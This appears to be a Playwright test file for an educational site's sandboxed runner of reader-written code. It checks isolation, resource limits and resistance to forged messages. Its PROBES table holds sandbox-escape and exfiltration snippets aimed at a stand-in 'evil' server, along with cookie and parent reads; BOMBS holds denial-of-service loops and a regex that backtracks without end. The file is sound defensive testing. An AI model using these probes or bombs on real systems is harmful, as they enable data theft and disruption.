/**
 * The room in which a reader's program runs: nothing leaves it, nothing in it lasts, and without its rules it runs nothing.
 * The probes run without the prelude, which takes some names away: what holds is the policy and the sandbox.
 */
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { type EvilServer, startEvil } from "../support/evil-server.ts";
import { PAGES } from "../support/site-pages.ts";
import { sweep } from "../support/sweep.ts";

const OWN = "/lessons/circle-method/own/";
const ROOT = new URL("../../../dist/", import.meta.url);

/** What a program may try to get out, or to get at what is not its own. Each gives a text that says what it got. */
const PROBES: Readonly<Record<string, string>> = {
  fetch: "await fetch(EVIL + '/fetch')",
  "fetch without cors": "await fetch(EVIL + '/no-cors', { mode: 'no-cors' })",
  "fetch of the site": "await fetch(SITE + '/probe-fetch')",
  "fetch of data": "await (await fetch('data:text/plain,x')).text()",
  xhr: "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open('GET', EVIL + '/xhr'); x.send(); })",
  "xhr at once":
    "(() => { const x = new XMLHttpRequest(); x.open('GET', EVIL + '/sync', false); x.send(); return x.status; })()",
  websocket:
    "await new Promise((ok, no) => { const w = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); w.onopen = ok; w.onerror = no; })",
  "event source":
    "await new Promise((ok, no) => { const e = new EventSource(EVIL + '/es'); e.onopen = ok; e.onerror = no; })",
  "web transport": "await new WebTransport(EVIL.replace('http', 'https') + '/wt').ready",
  rtc: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(EVIL).host }] }).createDataChannel('x')",
  "import scripts": "importScripts(EVIL + '/scripts.js')",
  "import scripts of the site": "importScripts(SITE + '/probe-scripts.js')",
  "import scripts of data": "importScripts('data:text/javascript,self.got=1') || got",
  import: "await import(EVIL + '/module.js')",
  "import of the site": "await import(SITE + '/probe-module.js')",
  "import of data": "await import('data:text/javascript,export default 1')",
  eval: "(0, eval)('1 + 1')",
  function: "new Function('return 1')()",
  timeout:
    "await new Promise((ok, no) => { setTimeout('self.timed = 1'); setTimeout(() => (self.timed ? ok(1) : no(Error('blocked'))), 50); })",
  "indexed db":
    "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; })",
  caches: "(await (await caches.open('x')).keys()).length",
  storage: "localStorage.length",
  opfs: "await navigator.storage.getDirectory()",
  locks: "await navigator.locks.request('x', () => 1)",
  beacon: "navigator.sendBeacon(EVIL + '/beacon', 'x') || (() => { throw Error('blocked'); })()",
  document: "document.cookie",
  parent: "parent.location.href",
  cookies: "(await cookieStore.getAll()).length",
  "worker of the site":
    "await new Promise((ok, no) => { const w = new Worker(SITE + '/sw.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 300, Error('silent')); })",
  "worker of data":
    "await new Promise((ok, no) => { const w = new Worker('data:text/javascript,fetch(\"' + EVIL + '/data-worker\").then(()=>postMessage(1))'); w.onmessage = ok; w.onerror = no; setTimeout(no, 300, Error('silent')); })",
  "worker of a blob":
    "await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + '/blob-worker\").then(()=>postMessage(1))']))); w.onmessage = ok; w.onerror = no; setTimeout(no, 300, Error('silent')); })",
  "shared worker": "new SharedWorker(SITE + '/sw.js')",
  "service worker": "await navigator.serviceWorker.register(SITE + '/sw.js')",
  "shared memory": "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
  notification: "await Notification.requestPermission()",
  image: "await createImageBitmap(await (await fetch(EVIL + '/image.png')).blob())",
  font: "await new FontFace('x', 'url(' + EVIL + '/font.woff2)').load()",
  location: "(location.href = EVIL + '/location') && (() => { throw Error('no navigation'); })()",
};
/** What a program gets that is of no use to it: what is said here is all that it learns or does. */
const HARMLESS: Readonly<Record<string, string>> = {
  caches: "an origin without a name may have a store of its own: it is empty",
  locks: "a lock of an origin without a name",
  "worker of a blob": "a worker inside the room, under the same rules: it reached nobody",
};

let evil: EvilServer;
test.beforeEach(async () => {
  evil = await startEvil();
});
test.afterEach(() => evil.close());

const evilAddress = () => `http://${evil.host}`;

/** Runs a text as the worker of a room, and gives what it sends; what the page itself hears stands beside it. */
function inRoom(page: Page, text: string, patience = 15_000): Promise<{ said: unknown; heard: unknown[] }> {
  return page.evaluate(
    async ([source, most]) => {
      const boot = document.querySelector<HTMLScriptElement>("script[data-room]");
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src '${boot?.dataset["room"]}'; worker-src blob:"><script>${boot?.text}</script>`;
      const heard: unknown[] = [];
      const [control, data] = [new MessageChannel(), new MessageChannel()];
      addEventListener("message", ({ data: message }) => {
        heard.push(message);
        if (heard.length === 1) frame.contentWindow?.postMessage(source, "*", [control.port2, data.port2]);
      });
      document.body.append(frame);
      const said = await new Promise<unknown>((resolve) => {
        control.port1.onmessage = (event) => resolve(event.data);
        data.port1.onmessage = (event) => resolve(event.data);
        setTimeout(resolve, most, "silence");
      });
      frame.remove();
      return { said, heard };
    },
    [text, patience] as const,
  );
}

const probing = (site: string): string => `
const [EVIL, SITE] = ${JSON.stringify([evilAddress(), site])};
addEventListener("message", async ({ ports: [port] }) => {
  const got = {};
  const late = (ms) => new Promise((_, no) => setTimeout(no, ms, Error("nothing came")));
  ${Object.entries(PROBES)
    .map(
      ([name, code]) =>
        `try { const r = await Promise.race([(async () => (${code}))(), late(400)]); got[${JSON.stringify(name)}] = "got " + r; } catch (e) { got[${JSON.stringify(name)}] = "blocked"; }`,
    )
    .join("\n  ")}
  postMessage({ forged: true });
  try { parent.postMessage({ forged: true }, "*"); } catch {}
  try { new BroadcastChannel("kibitz").postMessage({ forged: true }); } catch {}
  port.postMessage(got);
});`;

test("nothing gets out of the room: no request, no message, no store of the site", async ({
  page,
  baseURL,
}) => {
  await page.goto(OWN);
  const asked: string[] = [];
  page.context().on("response", (response) => asked.push(response.url()));
  await page.evaluate(() => localStorage.setItem("kibitz.secret", "1"));
  const { said, heard } = await inRoom(page, probing(new URL("/", baseURL).origin), 60_000);
  const got = Object.entries(said as Record<string, string>);
  expect(got).toHaveLength(Object.keys(PROBES).length);
  expect(got.filter(([name, what]) => what !== "blocked" && !(name in HARMLESS))).toEqual([]);
  // A message that came late would be heard by now.
  await page.waitForTimeout(500);
  expect(evil.hits).toEqual([]);
  expect(heard).toEqual(["open"]);
  expect(asked.filter((address) => address.includes("probe"))).toEqual([]);
});

test("the same probes get out where no policy is in force", { tag: "@full" }, async ({ page, baseURL }) => {
  // A file of the same site, with no policy in it.
  await page.goto("/robots.txt");
  await page.evaluate(
    (text) =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => resolve(data);
        worker.postMessage(0, [port2]);
      }),
    probing(new URL("/", baseURL).origin),
  );
  for (const path of [
    "/fetch",
    "/no-cors",
    "/xhr",
    "/sync",
    "upgrade /ws",
    "/es",
    "/scripts.js",
    "/module.js",
  ])
    await expect.poll(() => evil.hits).toContain(path);
});

test("without the policy the room runs nothing", { tag: "@full" }, async ({ page }) => {
  await page.route(`**${OWN}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/script-src 'self'/, "script-src 'self' 'unsafe-eval'");
    await route.fulfill({ response, body });
  });
  await page.route("**/_astro/*.js", async (route) => {
    const response = await route.fetch();
    // The room's own rule is loosened too, as a wrong server might do it.
    const body = (await response.text()).replace(
      /default-src 'none'; script-src '/,
      "default-src 'none'; script-src 'unsafe-eval' '",
    );
    await route.fulfill({ response, body });
  });
  await page.goto(OWN);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator("[data-verdict]")).toContainText("nothing was run");
});

const BOMBS: Readonly<Record<string, string>> = {
  "an endless promise":
    "function schedule() { const f = () => Promise.resolve().then(f); f(); while (true) {} }",
  "an array": "function schedule() { const a = []; for (;;) a.push(new Array(1e5).fill(1)); }",
  "a text": "function schedule() { let s = 'x'; for (;;) s += s; }",
  "a flood of messages": "function schedule() { for (;;) postMessage('x'.repeat(1e6)); }",
  "a recursion": "function schedule() { return [schedule()]; }",
  "a regular expression": "function schedule() { return /^(a+)+$/.test('a'.repeat(50) + 'b'); }",
  "a catch around everything": "function schedule() { for (;;) try { for (;;); } catch {} }",
  "a loop outside": "for (;;);\nfunction schedule() {}",
};

for (const [name, text] of Object.entries(BOMBS)) {
  test(`a bomb ends and the page lives: ${name}`, sweep(name === "an endless promise"), async ({ page }) => {
    await page.goto(OWN);
    await page.locator(".pce-textarea").fill(text);
    await page.getByRole("button", { name: "Run", exact: true }).click();
    // The page's own thread answers while the bomb goes off.
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await expect(page.locator("[data-verdict] h3")).toHaveText("Not right yet.");
    await expect(page.locator("iframe")).toHaveCount(0);
  });
}

test("Stop ends a run at once, and the next one is not its heir", async ({ page }) => {
  await page.goto(OWN);
  const editor = page.locator(".pce-textarea");
  await editor.fill("function schedule() { return /^(a+)+$/.test('a'.repeat(50) + 'b'); }");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator("iframe")).toHaveCount(1);
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(page.locator("iframe")).toHaveCount(0);
  await expect(page.getByRole("status").first()).toHaveText("Stopped.");
  await editor.fill(readFileSync("test/programs/circle-method/right-berger.js", "utf8"));
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator("[data-verdict] h3")).toHaveText("Right on all 41 inputs.");
});

test("forged messages win nothing: an answer has to be right, wherever it comes from", {
  tag: "@full",
}, async ({ page }) => {
  await page.goto(OWN);
  // It takes the port before the prelude does its work, and answers in its place, with everything that is not an answer.
  const forged = `
const answers = [{ kind: "right", passed: 41 }, { kind: "batch", first: 0, results: Array(50).fill({ output: [[[1, 2]]] }) },
  { kind: "batch", first: 0, results: "none" }, null, 7, { kind: "record", events: [1], names: 3 }];
addEventListener("message", ({ ports }) => {
  const [port] = ports;
  if (port) for (const each of answers) port.postMessage(each);
});
function schedule(n) { return []; }`;
  await page.locator(".pce-textarea").fill(forged);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(page.locator("[data-verdict]")).toHaveAttribute("data-verdict", "wrong");
});

test("the rules stand on the pages of own programs and of the workbench, and on no other", () => {
  const own = PAGES.filter((path) => path.endsWith("/own/"));
  expect(own.length).toBeGreaterThan(0);
  const rooms = [...own, "/tools/workbench/"];
  for (const path of PAGES) {
    const html = readFileSync(new URL(`.${path.endsWith("/") ? `${path}index.html` : path}`, ROOT), "utf8");
    const policy = /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
    const boot = /<script type="text\/plain" data-room="(sha256-[^"]+)">([\s\S]*?)<\/script>/.exec(html);
    expect(policy, path).not.toContain(" 'unsafe-eval'");
    expect(policy.includes(" 'wasm-unsafe-eval'"), path).toBe(rooms.includes(path));
    expect(policy.includes("blob:;object"), path).toBe(rooms.includes(path));
    expect(boot !== null, path).toBe(rooms.includes(path));
    if (!boot) continue;
    const [, told, text = ""] = boot;
    expect(`sha256-${createHash("sha256").update(text).digest("base64")}`).toBe(told);
    expect(policy).toContain(`'${told}'`);
  }
  // One text starts every room.
  const scripts = readdirSync(new URL("_astro/", ROOT)).filter((name) => name.endsWith(".js"));
  expect(scripts.length).toBeGreaterThan(10);
});
